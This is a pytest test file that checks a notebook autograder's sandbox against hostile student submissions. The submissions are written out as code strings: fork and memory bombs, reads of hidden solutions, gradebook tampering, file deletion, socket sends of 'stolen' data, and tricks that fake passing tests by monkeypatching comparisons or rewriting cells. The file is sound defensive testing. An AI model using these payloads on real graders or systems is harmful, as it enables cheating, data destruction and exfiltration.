"""The grading command against hostile and broken submissions (issue 5).

One class run of the tiny fixture lab (``tests/fixtures/course``: exercise 1 = 3 points, exercise 2
= 2 points) grades honest students and one student per kind of attack or accident, side by side.
For every kind the test asserts the exact score, and for the class: the honest students' scores,
a consistent gradebook, course files byte-identical afterwards, no hidden test in any feedback or
autograded output, and no connection reaching a server on the grading machine.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import socket
import textwrap
import threading
from pathlib import Path

import nbformat
import pytest
from _shared import shared_run

from attnlab.course import grade, sandbox
from attnlab.course.release import generate

FIXTURE = Path(__file__).resolve().parent / "fixtures" / "course"
LAB = "lab99_fixture"
pytestmark = [pytest.mark.slow, 
              pytest.mark.skipif(not sandbox.available()[0], reason=sandbox.available()[1])]

SOFTMAX = """def softmax_last(x):
    z = x - x.max(dim=-1, keepdim=True).values
    e = z.exp()
    return e / e.sum(dim=-1, keepdim=True)
"""
SOFTMAX_WRONG = """def softmax_last(x):
    return x.exp() / x.exp().sum(dim=0, keepdim=True)
"""
MEANSQ = """def mean_square(x):
    return float((x.double() ** 2).mean())
"""


def _released() -> nbformat.NotebookNode:
    return nbformat.read(str(COURSE["path"] / "labs" / LAB / f"{LAB}.ipynb"), as_version=4)


def _set(nb, grade_id: str, source: str):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            cell.source = textwrap.dedent(source)
            return nb
    raise KeyError(grade_id)


def _answer(ex1: str | None = SOFTMAX, ex2: str | None = MEANSQ):
    nb = _released()
    if ex1 is not None:
        _set(nb, "ex1_softmax", ex1)
    if ex2 is not None:
        _set(nb, "ex2_meansq", ex2)
    return nb


def _idx(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


# Each kind: (expected total, how to write the submission folder). The writer gets the folder and
# the course root (absolute paths an attacker would guess) and the port of a server on the host.
KINDS: dict[str, tuple[float, callable]] = {}


def kind(name, expected):
    def deco(fn):
        KINDS[name] = (expected, fn)
        return fn
    return deco


def _write(folder: Path, nb, name=LAB + ".ipynb"):
    nbformat.write(nb, str(folder / name))


@kind("correct", 5)
def _(folder, course, port):
    _write(folder, _answer())


@kind("blank", 0)
def _(folder, course, port):
    _write(folder, _released())


@kind("wrong", 2)
def _(folder, course, port):
    _write(folder, _answer(SOFTMAX_WRONG))


@kind("test_cell_edited", 2)
def _(folder, course, port):
    nb = _answer(SOFTMAX_WRONG)
    _set(nb, "test_ex1_softmax_values", "pass  # tests removed by the student")
    _write(folder, nb)


@kind("test_cell_deleted", 2)
def _(folder, course, port):
    nb = _answer(SOFTMAX_WRONG)
    del nb.cells[_idx(nb, "test_ex1_softmax_values")]
    _write(folder, nb)


@kind("test_cell_deleted_correct", 5)
def _(folder, course, port):
    nb = _answer()
    del nb.cells[_idx(nb, "test_ex2_meansq_values")]
    _write(folder, nb)


@kind("metadata_stripped", 5)
def _(folder, course, port):
    nb = _answer()
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    _write(folder, nb)


@kind("test_cell_duplicated", 5)
def _(folder, course, port):
    nb = _answer()
    i = _idx(nb, "test_ex1_softmax_values")
    nb.cells.insert(i + 1, nbformat.from_dict(json.loads(json.dumps(nb.cells[i]))))
    _write(folder, nb)


@kind("infinite_loop", 2)
def _(folder, course, port):
    _write(folder, _answer("while True:\n    pass\n" + SOFTMAX))


@kind("memory_bomb", 2)
def _(folder, course, port):
    _write(folder, _answer("hog = []\nwhile True:\n    hog.append(bytearray(256 * 1024 * 1024))\n" + SOFTMAX))


@kind("fork_bomb", 2)
def _(folder, course, port):
    bomb = "import os, time\nwhile True:\n    if os.fork() == 0:\n        try:\n            time.sleep(600)\n        finally:\n            os._exit(0)\n"
    _write(folder, _answer(bomb + SOFTMAX))


@kind("os_exit", 0)
def _(folder, course, port):
    _write(folder, _answer("import os\nos._exit(0)\n" + SOFTMAX))


@kind("sys_exit", 2)
def _(folder, course, port):
    _write(folder, _answer("import sys\nsys.exit(3)\n" + SOFTMAX))


@kind("kernel_killed", 0)
def _(folder, course, port):
    _write(folder, _answer("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n" + SOFTMAX))


@kind("huge_output", 5)
def _(folder, course, port):
    _write(folder, _answer("for i in range(200000):\n    print('spam ' * 20, i)\n" + SOFTMAX))


@kind("malformed_json", 0)
def _(folder, course, port):
    text = nbformat.writes(_answer())
    (folder / f"{LAB}.ipynb").write_text(text[: len(text) // 2])


@kind("not_utf8", 0)
def _(folder, course, port):
    text = nbformat.writes(_answer()).replace("Two tiny exercises.", "Zwei kleine Übungen.")
    (folder / f"{LAB}.ipynb").write_bytes(text.encode("latin-1"))


@kind("renamed_notebook", 5)
def _(folder, course, port):
    _write(folder, _answer(), name=f"{LAB} (1).ipynb")


@kind("empty_folder", 0)
def _(folder, course, port):
    pass


@kind("reads_hidden_tests", 5)
def _(folder, course, port):
    steal = f"""
import glob, os
for pattern in ["{course}/solutions/*/*.ipynb", "{course}/gradebook.db", "/grade/course/gradebook.db",
                "/grade/hashes.json", "/work/*/solutions/*/*.ipynb", "../../../*.db", "../../../../*/*.json",
                "*.ipynb", "/grade/course/autograded/*/*/*.ipynb", "/grade/**/*.ipynb"]:
    for path in glob.glob(pattern, recursive=True):
        try:
            print(open(path, "rb").read().decode("utf-8", "replace"))
        except OSError as err:
            print("blocked:", path, type(err).__name__)
""" + SOFTMAX
    _write(folder, _answer(steal))


@kind("writes_gradebook", 0)
def _(folder, course, port):
    hack = f"""
import sqlite3
for path in ["{course}/gradebook.db", "/grade/course/gradebook.db", "../../../gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 100")
        db.commit()
        print("wrote", path)
    except Exception as err:
        print("blocked:", path, type(err).__name__)
"""
    _write(folder, _answer(hack, "x = 1"))


@kind("deletes_course_files", 5)
def _(folder, course, port):
    hack = f"""
import shutil, os
for path in ["{course}/labs", "{course}/solutions", "{course}/submitted", "{course}/nbgrader_config.py", "/grade/course/gradebook.db"]:
    try:
        shutil.rmtree(path) if os.path.isdir(path) else os.remove(path)
        print("deleted", path)
    except Exception as err:
        print("blocked:", path, type(err).__name__)
""" + SOFTMAX
    _write(folder, _answer(hack))


@kind("monkeypatch_comparisons", 0)
def _(folder, course, port):
    hack = """
import numpy, numpy.testing, torch, torch.testing
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__sub__ = lambda a, b: torch.zeros_like(a)
torch.abs = lambda x: torch.zeros_like(x)
torch.softmax = lambda x, dim=-1: x
""" + SOFTMAX_WRONG
    _write(folder, _answer(hack, "def mean_square(x):\n    return 0.0\nimport builtins\nbuiltins.abs = lambda v: 0.0"))


@kind("always_equal_object", 0)
def _(folder, course, port):
    fake = """
class Anything:
    shape = (2, 3, 5)
    dtype = None
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return lambda *a, **k: self
    def __float__(self): return 14.0 / 3
def softmax_last(x):
    return Anything()
"""
    _write(folder, _answer(fake, "def mean_square(x):\n    return softmax_last(x)"))


@kind("grading_helpers_replaced", 0)
def _(folder, course, port):
    hack = """
import types, attnlab.grading
ok = lambda *a, **k: None
for n in ("check_shape", "check_close", "check_float", "check_tensor", "check_equal", "check_true"):
    setattr(attnlab.grading, n, ok)
G = types.SimpleNamespace(check_shape=ok, check_close=ok, check_float=ok)
""" + SOFTMAX_WRONG
    _write(folder, _answer(hack, "def mean_square(x):\n    return -1.0"))


@kind("ipython_hook_rewrites_cells", 0)
def _(folder, course, port):
    hack = """
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
import ast
class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
ip.ast_transformers.append(Empty())
ip.events.register("pre_run_cell", lambda info: None)
""" + SOFTMAX_WRONG
    _write(folder, _answer(hack, None))


@kind("network_connection", 5)
def _(folder, course, port):
    hack = f"""
import socket
for host, p in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("pypi.org", 443)]:
    try:
        socket.create_connection((host, p), timeout=3).sendall(b"stolen")
        print("connected", host)
    except Exception as err:
        print("blocked:", host, type(err).__name__)
""" + SOFTMAX
    _write(folder, _answer(hack))


@kind("warnings_in_correct_answer", 5)
def _(folder, course, port):
    warn = "import warnings\n" + SOFTMAX.replace("    z = ", "    warnings.warn('careful: large inputs', UserWarning)\n    z = ")
    _write(folder, _answer(warn, "import sys\ndef mean_square(x):\n    warnings.warn('deprecated', DeprecationWarning)\n"
                                 "    return float((x.double() ** 2).mean())"))


HONEST = {"honest_alice": (5, SOFTMAX, MEANSQ), "honest_bob": (0, None, None), "honest_carol": (2, SOFTMAX_WRONG, MEANSQ)}
COURSE: dict = {}


def _tree_hashes(course: Path) -> dict[str, str]:
    out = {}
    for top in ("solutions", "labs", "submitted", "nbgrader_config.py"):
        p = course / top
        for f in sorted([p] if p.is_file() else p.rglob("*")):
            if f.is_file():
                out[str(f.relative_to(course))] = hashlib.sha256(f.read_bytes()).hexdigest()
    return out


@pytest.fixture(scope="session")
def graded_class(tmp_path_factory):
    data = shared_run(tmp_path_factory, "grading-adversarial", _run_class)
    return {"course": Path(data["course"]), "result": grade.ClassResult.load(Path(data["result"])),
            "before": data["before"], "after": data["after"], "hits": data["hits"]}


def _run_class(shared: Path) -> dict:
    course = shared / "course"
    shutil.copytree(FIXTURE, course)
    shutil.copy(FIXTURE.parents[1].parent / "nbgrader_config.py", course / "nbgrader_config.py")  # the course's own settings
    COURSE["path"] = course
    generate(LAB, course / "labs", root=course)
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.5)
    port = server.getsockname()[1]
    hits = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                hits.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    for student, (_, ex1, ex2) in HONEST.items():
        folder = course / "submitted" / student / LAB
        folder.mkdir(parents=True)
        _write(folder, _answer(ex1, ex2))
    for name, (_, writer) in KINDS.items():
        folder = course / "submitted" / name / LAB
        folder.mkdir(parents=True)
        writer(folder, course, port)
    before = _tree_hashes(course)
    limits = sandbox.Limits(cell_timeout_s=8, wall_s=120, kernel_address_space=int(4.5 * 1024**3), memory=3 * 1024**3,
                            kernel_nproc=64)
    result = grade.grade_lab(LAB, course=course, limits=limits)
    after = _tree_hashes(course)
    stop.set()
    thread.join()
    server.close()
    return {"course": str(course), "result": str(result.out_dir / "result.json"), "before": before, "after": after,
            "hits": [h.decode("latin-1") for h in hits]}


def test_there_are_at_least_25_kinds():
    assert len(KINDS) >= 25, sorted(KINDS)


@pytest.mark.parametrize("name", sorted(KINDS))
def test_kind_scores_exactly(graded_class, name):
    result = graded_class["result"]
    expected = KINDS[name][0]
    got = sum(result.students[name].scores.values())
    assert got == expected, f"{name}: expected {expected}, got {got}; {result.students[name]}"
    db = grade.gradebook_scores(f"sqlite:///{graded_class['course']}/gradebook.db", LAB)
    assert sum(v or 0 for v in db[name].values()) == expected


def test_honest_students_unaffected(graded_class):
    result = graded_class["result"]
    for student, (expected, _, _) in HONEST.items():
        assert sum(result.students[student].scores.values()) == expected, result.students[student]


def test_gradebook_is_consistent(graded_class):
    from nbgrader.api import Gradebook

    course = graded_class["course"]
    with Gradebook(f"sqlite:///{course}/gradebook.db", course_id="attnlab") as gb:
        students = {s.id for s in gb.students}
        assert students == set(KINDS) | set(HONEST)
        assignment = gb.find_assignment(LAB)
        assert assignment.num_submissions == len(students)
        for student in students:
            sub = gb.find_submission(LAB, student)
            total = 0.0
            for nb in sub.notebooks:
                for g in nb.grades:
                    if g.cell_type != "code":
                        continue
                    assert g.auto_score is not None and not g.needs_manual_grade, (student, g.name)
                    assert 0 <= g.auto_score <= g.max_score
                    total += g.auto_score
            assert total == sum(graded_class["result"].students[student].scores.values())


def test_course_files_byte_identical(graded_class):
    assert graded_class["before"] == graded_class["after"]


def test_no_connection_reached_the_host(graded_class):
    assert graded_class["hits"] == []
    out = _outputs(graded_class["course"], "network_connection")
    assert "connected" not in out and "blocked:" in out


def _outputs(course: Path, student: str) -> str:
    nb = nbformat.read(str(course / "autograded" / student / LAB / f"{LAB}.ipynb"), as_version=4)
    return json.dumps([c.get("outputs", []) for c in nb.cells])


def test_hidden_tests_not_readable_from_the_sandbox(graded_class):
    course = graded_class["course"]
    out = _outputs(course, "reads_hidden_tests")
    assert "BEGIN HIDDEN" not in out and "softmax of large inputs" not in out
    assert "blocked:" in out or "[]" in out


def test_attacks_on_files_failed(graded_class):
    course = graded_class["course"]
    assert "wrote " not in _outputs(course, "writes_gradebook")
    assert "deleted " not in _outputs(course, "deletes_course_files")


def test_feedback_has_no_hidden_tests(graded_class):
    course = graded_class["course"]
    htmls = list((course / "feedback").rglob("*.html"))
    assert len(htmls) >= 20
    for html in htmls:
        text = html.read_text("utf-8")
        assert "BEGIN HIDDEN TESTS" not in text and "softmax of large inputs" not in text, html
        assert "random tensor" not in text, html


def test_problems_are_reported_in_plain_words(graded_class):
    s = graded_class["result"].students
    assert any("JSON" in m for m in s["malformed_json"].messages)
    assert any("UTF-8" in m for m in s["not_utf8"].messages)
    assert any("no notebook" in m for m in s["empty_folder"].messages)
    assert any("more than once" in m for m in s["test_cell_duplicated"].messages)
    assert any("deleted" in m for m in s["test_cell_deleted"].messages)
    assert any("expected the name" in m for m in s["renamed_notebook"].messages)
    summary = graded_class["result"].summary_path.read_text()
    assert "| ex1_softmax | 3 |" in summary
    assert graded_class["result"].plot_path and graded_class["result"].plot_path.exists()
